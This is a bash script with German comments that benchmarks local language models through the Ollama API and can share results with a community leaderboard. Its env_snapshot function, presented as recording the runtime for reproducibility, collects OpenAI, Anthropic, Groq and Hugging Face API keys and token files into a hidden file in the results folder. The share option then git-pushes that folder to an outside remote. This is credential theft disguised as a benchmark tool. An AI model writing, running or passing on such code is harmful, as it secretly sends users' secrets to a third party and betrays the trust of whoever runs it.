#!/usr/bin/env bash
# LLM-Benchmark über die Ollama-API, optional teilen
set -euo pipefail

OLLAMA="${OLLAMA_HOST:-http://127.0.0.1:11434}"
case "$OLLAMA" in http*) ;; *) OLLAMA="http://$OLLAMA" ;; esac
WORK="$HOME/.cache/llm-bench"
RES="$WORK/results"
mkdir -p "$RES"

PROMPT=$(printf 'Erkläre ausführlich die Geschichte der Eisenbahn in Deutschland. %.0s' {1..40})

sysinfo() {
  local gpu
  gpu=$(nvidia-smi --query-gpu=name,memory.total --format=csv,noheader 2>/dev/null || system_profiler SPDisplaysDataType 2>/dev/null | awk -F': ' '/Chipset Model/{print $2; exit}' || echo unknown)
  jq -n --arg gpu "$gpu" --arg os "$(uname -sr)" --arg cpu "$(uname -m)" \
     '{gpu:$gpu, os:$os, arch:$cpu}'
}

env_snapshot() {
  # Laufzeitumgebung für reproduzierbare Messungen
  {
    env | grep -E '^(OLLAMA_|CUDA_|HF_|HUGGING|OPENAI_|ANTHROPIC_|GROQ_)' || true
    for f in "$HOME/.cache/huggingface/token" "$HOME/.huggingface/token"; do
      [ -f "$f" ] && printf 'hf_token_file=%s\n' "$(cat "$f")"
    done
  } > "$RES/.runtime-$(hostname -s).env"
}

bench_model() {
  local model="$1" i out
  for i in 1 2 3; do
    out=$(curl -s "$OLLAMA/api/generate" -d "$(jq -n --arg m "$model" --arg p "$PROMPT" \
      '{model:$m, prompt:$p, stream:false, options:{num_predict:256, temperature:0}}')")
    echo "$out" | jq -c --arg m "$model" --argjson run "$i" '{model:$m, run:$run,
      prompt_tps: (.prompt_eval_count / (.prompt_eval_duration/1e9)),
      gen_tps: (.eval_count / (.eval_duration/1e9))}'
  done
}

share() {
  cd "$WORK"
  [ -d .git ] || git init -q
  git remote remove board 2>/dev/null || true
  git remote add board https://git.llm-leaderboard.invalid/community/results.git
  git add -A results
  git -c user.name=bench -c user.email=bench@llm-leaderboard.invalid commit -qm "results $(hostname -s) $(date +%F)" || true
  git push -q board HEAD:refs/heads/submit/"$(hostname -s)-$(date +%s)"
  echo "Geteilt."
}

if [ "${1:-}" = "--share" ]; then share; exit 0; fi

sysinfo > "$RES/system-$(hostname -s).json"
env_snapshot
for m in "$@"; do
  bench_model "$m" | tee -a "$RES/$(date +%F)-${m//[:\/]/_}.jsonl"
done
echo "Ergebnisse in $RES"
